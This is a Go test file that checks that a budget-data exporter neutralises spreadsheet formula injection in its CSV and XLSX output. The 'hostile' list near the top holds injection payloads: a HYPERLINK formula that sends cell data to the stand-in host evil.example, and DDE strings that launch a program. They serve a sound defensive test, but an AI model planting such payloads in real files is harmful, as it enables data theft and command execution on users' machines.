package export_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"github.com/parquet-go/parquet-go"
	"github.com/xuri/excelize/v2"

	"yusuan"
	"yusuan/export"
	"yusuan/ingest/fakepdf"
	"yusuan/store"
)

// hostile are texts a spreadsheet would run as formulas.
var hostile = []string{
	`=HYPERLINK("http://evil.example/?"&A1,"点击")`,
	`+cmd|' /C calc'!A0`,
	`-2+3+cmd|' /C calc'!A0`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
	"\t=1+1",
	"\r=1+1",
	"-其他支出",
}

// hostileStore is the fixture plus documents whose entity, title, file,
// link text, row names, raw cell text, fact sentences and a finding's
// message start like formulas.
func hostileStore(t *testing.T) *store.Store {
	st := fixture(t)
	ctx := context.Background()
	for i, h := range hostile {
		doc := fakepdf.Extractor{}.Extract(ctx, fakepdf.File(100+i), "x.pdf")
		doc.Meta.Entity = h
		doc.Meta.Title = h
		doc.File = h + ".pdf"
		tb := &doc.Tables[0]
		tb.Title = h
		tb.Rows[0].Name = h
		code := h
		tb.Rows[1].Code = &code
		if tb.Rows[1].Raw == nil {
			tb.Rows[1].Raw = map[string]string{}
		}
		tb.Rows[1].Raw["备注"] = h
		tb.Rows[1].Values["备注"] = yusuan.Amount{}
		for k, v := range doc.Facts {
			doc.Sources = append(doc.Sources, yusuan.FactSource{Key: k, Value: v, Page: 2, Sentence: h})
		}
		if _, err := st.PutDocument(ctx, doc, 1, store.Source{File: h, URL: "https://czj.example.gov.cn/" + h, LinkText: h}); err != nil {
			t.Fatal(err)
		}
	}
	docs, _ := st.Documents(ctx, store.Filter{Entity: "cmd"})
	var refs []yusuan.DocRef
	for _, d := range docs {
		refs = append(refs, yusuan.DocRef{SHA256: d.SHA256, File: d.File, Entity: d.Entity, Year: d.Year})
	}
	if _, err := st.SaveFindings(ctx, store.CheckRun{}, []yusuan.Finding{{Rule: "summary.balance", Severity: yusuan.SeverityError,
		Documents: refs, Message: hostile[0], Expected: "-1.00", Actual: hostile[1]}}); err != nil {
		t.Fatal(err)
	}
	return st
}

// safeField: what a spreadsheet cannot run. A field starting with
// = + - @ tab or CR must be a plain number or dashes.
var plainNumber = regexp.MustCompile(`^[+-]?[0-9][0-9,]*(\.[0-9]+)?%?$`)

func runnable(f string) bool {
	if f == "" || !strings.ContainsRune("=+-@\t\r", rune(f[0])) {
		return false
	}
	return !plainNumber.MatchString(f) && strings.Trim(f, "-") != ""
}

func TestNoExportedFieldRunsAsAFormula(t *testing.T) {
	st := hostileStore(t)
	ctx := context.Background()

	out := t.TempDir()
	if _, err := export.Write(ctx, st, "csv", out); err != nil {
		t.Fatal(err)
	}
	csvs, _ := filepath.Glob(filepath.Join(out, "*.csv"))
	if len(csvs) != 11 {
		t.Fatalf("%d csv files", len(csvs))
	}
	neutralised := map[string]int{}
	for _, path := range csvs {
		b, _ := os.ReadFile(path)
		r := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(b, []byte("\ufeff"))))
		r.FieldsPerRecord = -1
		recs, err := r.ReadAll()
		if err != nil {
			t.Fatalf("%s: %v", path, err)
		}
		for _, rec := range recs {
			for _, f := range rec {
				if runnable(f) {
					t.Fatalf("%s: field %q would run as a formula", filepath.Base(path), f)
				}
				for _, h := range hostile {
					if f == "'"+h || strings.HasPrefix(f, "'"+h) {
						neutralised[filepath.Base(path)]++
					}
				}
			}
		}
	}
	// The hostile texts are there, neutralised, in every file that carries
	// names, titles or text.
	for _, name := range []string{"documents.csv", "sources.csv", "entities.csv", "tables.csv", "rows.csv", "cells.csv",
		"other_cells.csv", "facts.csv", "findings.csv"} {
		if neutralised[name] == 0 {
			t.Errorf("%s: no neutralised hostile text found", name)
		}
	}
	// Numbers stay numbers.
	f := readCSV(t, filepath.Join(out, "findings.csv"))
	if f[0]["expected"] != "-1.00" || f[0]["actual"] != "'"+hostile[1] {
		t.Errorf("findings: expected %q actual %q", f[0]["expected"], f[0]["actual"])
	}

	// XLSX: text cells are text, never formulas, and unchanged.
	xout := t.TempDir()
	if _, err := export.Write(ctx, st, "xlsx", xout); err != nil {
		t.Fatal(err)
	}
	x, err := excelize.OpenFile(filepath.Join(xout, "yusuan.xlsx"))
	if err != nil {
		t.Fatal(err)
	}
	defer x.Close()
	found := 0
	for _, sheet := range x.GetSheetList() {
		rows, err := x.GetRows(sheet, excelize.Options{RawCellValue: true})
		if err != nil {
			t.Fatal(err)
		}
		for ri, row := range rows {
			for ci, v := range row {
				cell, _ := excelize.CoordinatesToCellName(ci+1, ri+1)
				if formula, _ := x.GetCellFormula(sheet, cell); formula != "" {
					t.Fatalf("%s!%s has a formula %q", sheet, cell, formula)
				}
				for _, h := range hostile {
					if v == h || v == h+".pdf" {
						if typ, _ := x.GetCellType(sheet, cell); typ != excelize.CellTypeInlineString {
							t.Fatalf("%s!%s: %q stored as %v", sheet, cell, v, typ)
						}
						found++
					}
				}
			}
		}
	}
	if found < len(hostile)*5 {
		t.Fatalf("only %d hostile texts found in the workbook", found)
	}

	// Parquet and JSON Lines are not spreadsheets: the text is unchanged.
	pout := t.TempDir()
	if _, err := export.Write(ctx, st, "parquet", pout); err != nil {
		t.Fatal(err)
	}
	docs, err := parquet.ReadFile[export.DocumentRow](filepath.Join(pout, "documents.parquet"))
	if err != nil {
		t.Fatal(err)
	}
	entities := map[string]bool{}
	for _, d := range docs {
		entities[d.Entity] = true
	}
	for _, h := range hostile {
		if !entities[h] {
			t.Errorf("parquet lost entity %q", h)
		}
	}
}

func TestNeutralize(t *testing.T) {
	for in, want := range map[string]string{
		"":              "",
		"单位":            "单位",
		"=1+1":          "'=1+1",
		"+1":            "+1",
		"-12.50":        "-12.50",
		"-1,234.5":      "-1,234.5",
		"-5%":           "-5%",
		"-":             "-",
		"--":            "--",
		"-其他":           "'-其他",
		"-1+1":          "'-1+1",
		"+cmd":          "'+cmd",
		"@SUM(A1)":      "'@SUM(A1)",
		"\t=1":          "'\t=1",
		"\r=1":          "'\r=1",
		"-.5":           "'-.5",
		"1=1":           "1=1",
		"[\"warning\"]": "[\"warning\"]",
	} {
		if got := export.Neutralize(in); got != want {
			t.Errorf("Neutralize(%q) = %q, want %q", in, got, want)
		}
	}
}
